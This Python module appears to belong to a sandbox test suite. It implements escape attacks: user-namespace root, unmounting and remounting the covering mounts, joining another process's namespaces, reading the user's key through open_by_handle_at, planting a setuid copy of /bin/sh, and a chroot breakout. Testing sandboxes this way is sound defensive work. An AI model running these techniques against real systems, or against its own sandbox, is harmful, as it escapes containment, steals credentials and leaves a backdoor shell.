"""Getting out of the sandbox itself."""

from __future__ import annotations

import ctypes
import os
import shutil

from gitcto.escape.attacks.tools import At, append, checked, every, keep, libc

_NEWNS, _NEWUSER = 0x00020000, 0x10000000
_BIND, _REMOUNT, _DETACH = 4096, 32, 2
_PRIVATE = 1 << 18 | 16384


def _mount(source: str, target: str, flags: int) -> None:
    checked(libc().mount(source.encode(), target.encode(), None, flags, None))


def _write_out(at: At) -> None:
    append(os.path.join(at["project"], "README.md"))


def user_namespace(at: At) -> None:
    """Become root in a new user namespace, take covers away, then write to the checkout."""
    uid, gid = os.getuid(), os.getgid()
    every(
        [
            lambda: checked(libc().unshare(_NEWUSER | _NEWNS)),
            lambda: _put("/proc/self/setgroups", "deny"),
            lambda: _put("/proc/self/uid_map", f"0 {uid} 1"),
            lambda: _put("/proc/self/gid_map", f"0 {gid} 1"),
        ]
    )
    _uncover(at)
    _write_out(at)


def _put(path: str, text: str) -> None:
    with open(path, "w", encoding="ascii") as file:
        file.write(text)


def remount(at: At) -> None:
    """Unmount what covers the user's files and make the rest writable, then write."""
    _uncover(at)
    _write_out(at)


def _uncover(at: At) -> None:
    """Only where a sandbox has put mounts of its own: never on the machine's."""
    if os.readlink("/proc/self/ns/mnt") == at["mount_namespace"]:
        return
    _mount("none", "/", _PRIVATE)
    covers = [at["home"], at["project"], os.path.dirname(at["home"]), "/tmp", "/home", "/"]
    every(lambda each=each: checked(libc().umount2(each.encode(), _DETACH)) for each in covers[:-1])
    every(lambda each=each: _mount("none", each, _REMOUNT | _BIND) for each in covers)


def mount_over(at: At) -> None:
    """Mount a directory of the room over one of the user's."""
    made = os.path.join(at["room"], "cover")
    os.makedirs(made)
    append(os.path.join(made, "notes.txt"))
    _mount(made, os.path.join(at["project"], "docs"), _BIND)


def join_namespaces(at: At) -> None:
    """Join the namespaces of another process, then write to the checkout."""
    for kind in ("user", "mnt"):
        handle = os.open(f"/proc/{at['sibling']}/ns/{kind}", os.O_RDONLY)
        if kind == "mnt" or os.readlink("/proc/self/ns/user") != at["user_namespace"]:
            checked(libc().setns(handle, 0))
    _write_out(at)


def open_by_handle(at: At) -> None:
    """Open the user's key by its number in the file system, past every path."""
    raw = bytes.fromhex(at["handle"])
    buffer = ctypes.create_string_buffer(raw, len(raw))
    room = os.open(at["room"], os.O_RDONLY)
    keep(at, os.read(checked(libc().open_by_handle_at(room, buffer, os.O_RDONLY)), 4096))


def setuid_file(at: At) -> None:
    """Leave a program behind that gives whoever starts it the worker's identity."""
    path = os.path.join(at["scratch"], "shell")
    shutil.copyfile("/bin/sh", path)
    os.chmod(path, 0o4755)


def chroot(at: At) -> None:
    """Break out of a changed root directory, then write to the checkout."""
    inside = os.path.join(at["room"], "root")
    os.makedirs(inside)
    outside = os.open(at["room"], os.O_RDONLY)
    os.chroot(inside)
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    _write_out(at)
